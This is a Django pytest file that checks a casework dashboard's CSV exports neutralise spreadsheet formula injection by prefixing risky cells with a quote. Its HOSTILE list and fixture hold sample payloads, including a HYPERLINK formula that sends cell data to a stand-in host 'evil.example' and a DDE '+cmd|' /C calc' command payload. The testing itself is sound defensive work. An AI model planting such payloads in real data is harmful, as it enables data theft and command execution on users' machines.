"""CSV formula injection (OWASP): no export lets a name become a live spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from casework.models import Beneficiary, Organisation, Territory
from tests.factories import OfferFactory, track
from tests.helpers import ago, at, late_pathways
from workflows.pages import dashboard_csv
from workflows.pages.csv_export import csv_cell
from workflows.services.prescriptions import prescription_send

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile_world(world, monkeypatch):
    """Every name a table can show is hostile: people, territory, organisations, professionals;
    every table has at least one row (a handover pending, an expired contact gap)."""
    late = late_pathways(world, (("dept1", world.referent, 60), ("dept2", world.referent2, 60)))
    quiet = world.enter(ago(420), last_name="quiet")
    world.t(quiet, "orient", ago(410), organisation=world.dept, track=track("social"))
    world.t(quiet, "assign_referent", ago(400), referent=world.referent)
    world.t(late["dept1"], "propose_handover", ago(2), incoming=world.referent2, note="Relais")
    unassigned = world.enter(ago(30), last_name="unassigned")
    world.t(unassigned, "orient", ago(20), organisation=world.dept, track=track("social"))
    offer = OfferFactory(provider=world.dept, territories=[world.territory], barriers=["mobility"])
    prescription_send(late["dept1"], offer, barrier="mobility", by=world.referent.user, now=at(ago(1)))
    for n, beneficiary in enumerate(Beneficiary.objects.all()):
        beneficiary.first_name = HOSTILE[n % len(HOSTILE)]
        beneficiary.last_name = "\tTab" if n % 2 else "\rRetour"
        beneficiary.save()
    Territory.objects.filter(pk=world.territory.pk).update(name="@SUM(1)")
    Organisation.objects.update(name="+cmd|' /C calc'!A0")
    get_user_model().objects.update(first_name="-2+3", last_name="=1+1")
    real = dashboard_csv.indicators_compute

    def indicators_with_a_hostile_label(**kwargs):  # indicator labels are code; prove the writer is used
        result = real(**kwargs)
        next(iter(result.values()))["label"] = "=HYPERLINK(1)"
        return result

    monkeypatch.setattr(dashboard_csv, "indicators_compute", indicators_with_a_hostile_label)
    return world


@pytest.mark.parametrize("table", dashboard_csv.CSV_TABLES)
def test_no_export_writes_a_live_formula(client, hostile_world, table):
    reader = hostile_world.officer if table == "orientation" else hostile_world.lead  # whose queue it is
    client.force_login(reader.user)
    response = client.get(reverse("dashboard:export", args=[table]))
    assert response.status_code == 200
    rows = read_csv(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1:], "each table has rows in this world"
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert live == []
    neutralised = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]
    assert neutralised, "the hostile names are in the export, as text"


def test_csv_cell_neutralises_formulas_and_keeps_numbers():
    assert [csv_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell(-3) == -3 and csv_cell(None) == "" and csv_cell("Chloé Moreau") == "Chloé Moreau"
    assert csv_cell(dt.date(2026, 1, 2)) == dt.date(2026, 1, 2)
